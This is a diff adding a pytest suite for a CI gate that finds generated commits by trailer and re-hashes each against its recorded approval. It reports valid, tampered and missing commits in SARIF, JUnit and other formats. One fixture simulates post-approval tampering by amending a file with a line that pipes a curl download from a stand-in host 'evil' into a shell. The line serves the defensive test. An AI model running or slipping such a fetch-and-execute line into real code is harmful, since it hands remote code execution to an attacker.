@@ -1,0 +1,143 @@
+"""CI mode: generated commits found by trailer, each re-hashed against its approval."""
+
+from __future__ import annotations
+
+import json
+import xml.etree.ElementTree as ET
+
+import pytest
+from gate_helpers import git, make_plan, record_approval, sarif_schema
+
+from hybridcode.cli.ci_cmd import run_ci_command
+from hybridcode.ledger import ledger_path
+from hybridcode.plan.store import PlanStore
+from hybridcode.review.ci import run_ci
+from hybridcode.review.gate import commit_plan
+from hybridcode.vcs.commits import format_message, parse_review_trailer, parse_trailers
+from hybridcode.vcs.diff import worktree_diff
+
+
+def _approved_commit(root, plan_id, files):
+    wt = make_plan(root, plan_id, files)
+    diff = worktree_diff(wt, PlanStore(root).meta(plan_id).base_commit)
+    record_approval(root, diff.sha256, plan_id=plan_id)
+    return wt, commit_plan(root, plan_id, merge=True)
+
+
+@pytest.fixture
+def history(repo):
+    """main: initial → plan A (approved, valid) → plan B (approved, then amended: tampered)."""
+    base = git(repo, "rev-parse", "HEAD").stdout.strip()
+    _, a = _approved_commit(repo, "p-a", {"a.py": "A = 1\n"})
+    wt_b = make_plan(repo, "p-b", {"b.py": "B = 1\n"})
+    diff = worktree_diff(wt_b, PlanStore(repo).meta("p-b").base_commit)
+    record_approval(repo, diff.sha256, plan_id="p-b")
+    b = commit_plan(repo, "p-b")
+    # after approval, someone slips a change into the commit and keeps its message
+    (wt_b / "b.py").write_text("B = 1\nimport os; os.system('curl evil | sh')\n")
+    git(wt_b, "commit", "-q", "--amend", "--no-verify", "-a", "-C", "HEAD")
+    tampered = git(wt_b, "rev-parse", "HEAD").stdout.strip()
+    git(repo, "merge", "-q", "--no-ff", "--no-edit", "hybrid/p-b")
+    return repo, base, a.commit, tampered, b
+
+
+def test_one_valid_and_one_tampered_commit(history):
+    root, base, valid, tampered, _ = history
+    result = run_ci(root, base, "HEAD", review_missing=False)
+    assert [(c.sha, c.status) for c in result.commits] == [(valid, "valid"),
+                                                           (tampered, "tampered")]
+    bad = result.commits[1]
+    assert bad.trailer_sha256 != bad.actual_sha256 and "changed after approval" in bad.detail
+    assert result.exit_code == 1
+    # only the valid part of the range: exit 0
+    assert run_ci(root, base, valid, review_missing=False).exit_code == 0
+
+
+def test_without_a_ledger_the_trailer_hash_decides(history):
+    root, base, *_ = history
+    ledger_path(root).unlink()
+    for extra in ("-wal", "-shm"):
+        ledger_path(root).with_name(f"ledger.db{extra}").unlink(missing_ok=True)
+    result = run_ci(root, base, "HEAD", review_missing=False)
+    assert [c.status for c in result.commits] == ["valid", "tampered"]
+    assert result.commits[0].ledger_approval is None
+
+
+def test_commit_without_review_trailer_is_missing(repo):
+    base = git(repo, "rev-parse", "HEAD").stdout.strip()
+    (repo / "c.py").write_text("C = 1\n")
+    git(repo, "add", "c.py")
+    git(repo, "commit", "-q", "-m", format_message("sneak", [("Hybrid-Plan", "p-c")]))
+    (repo / "d.py").write_text("D = 1\n")
+    git(repo, "add", "d.py")
+    git(repo, "commit", "-q", "-m", "hand-written, no trailers")
+    result = run_ci(repo, base, "HEAD", review_missing=False)
+    assert [(c.plan_id, c.status) for c in result.commits] == [("p-c", "missing")]
+
+
+def test_unapproved_commit_is_reviewed_with_its_own_files(repo):
+    base = git(repo, "rev-parse", "HEAD").stdout.strip()
+    (repo / "broken.py").write_text("def broken(:\n    pass\n")
+    git(repo, "add", "broken.py")
+    git(repo, "commit", "-q", "-m", format_message("gen", [("Hybrid-Plan", "p-x")]))
+    git(repo, "rm", "-q", "broken.py")  # HEAD no longer has the file: checks must see the commit
+    git(repo, "commit", "-q", "-m", "remove")
+    result = run_ci(repo, base, "HEAD", review_missing=True)
+    [c] = result.commits
+    assert c.status == "reviewed-rejected" and c.found == "missing"
+    assert c.outcome.decision == "blocked"
+    assert git(repo, "worktree", "list").stdout.count("\n") == 1  # temporary checkout removed
+
+
+def test_reports_for_a_ci_run(history, capsys):
+    jsonschema = pytest.importorskip("jsonschema")
+    root, base, *_ = history
+    code = run_ci_command(base, "HEAD", "sarif", review_missing=False, repo=root)
+    sarif = json.loads(capsys.readouterr().out)
+    jsonschema.validate(sarif, sarif_schema())
+    [result] = sarif["runs"][0]["results"]
+    assert code == 1 and result["ruleId"] == "gate/approval"
+    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "b.py"
+
+    assert run_ci_command(base, "HEAD", "junit", review_missing=False, repo=root) == 1
+    suites = ET.fromstring(capsys.readouterr().out)
+    assert suites.get("tests") == "2" and suites.get("failures") == "1"
+
+    run_ci_command(base, "HEAD", "github", review_missing=False, repo=root)
+    out = capsys.readouterr().out
+    assert out.count("::error") == 2 and "file=b.py,line=1" in out
+
+    run_ci_command(base, "HEAD", "json", review_missing=False, repo=root)
+    data = json.loads(capsys.readouterr().out)
+    assert [c["status"] for c in data["commits"]] == ["valid", "tampered"]
+
+    run_ci_command(base, "HEAD", "markdown", review_missing=False, repo=root)
+    assert "| tampered |" in capsys.readouterr().out
+
+
+def test_unknown_base_is_a_usage_error(repo):
+    from hybridcode.errors import UsageError
+
+    with pytest.raises(UsageError) as info:
+        run_ci(repo, "origin/nope", "HEAD")
+    assert "fetch" in str(info.value)
+
+
+@pytest.mark.parametrize(("message", "expected"), [
+    ("subject\n\nbody\n\nHybrid-Plan: p1\nHybrid-Review: approved " + "a" * 64 + " by m\n",
+     {"Hybrid-Plan": "p1", "Hybrid-Review": "approved " + "a" * 64 + " by m"}),
+    ("subject\n\nhybrid-plan: p2\n", {"Hybrid-Plan": "p2"}),
+    ("only a subject: with a colon\n", {}),
+    ("subject\n\nprose in the last paragraph\nHybrid-Plan: p3\n", {}),
+    ("s\n\nHybrid-Implementer: a,\n  b\n", {"Hybrid-Implementer": "a, b"}),
+])
+def test_parse_trailers(message, expected):
+    assert parse_trailers(message) == expected
+
+
+def test_review_trailer_values():
+    sha = "b" * 64
+    assert parse_review_trailer(f"approved {sha} by claude-opus-5-5") == (sha, "claude-opus-5-5")
+    assert parse_review_trailer("approved abc by x") is None
+    assert parse_review_trailer(None) is None
+    assert "\n" not in format_message("s", [("K", "multi\nline")]).split("\n\n")[1].strip()
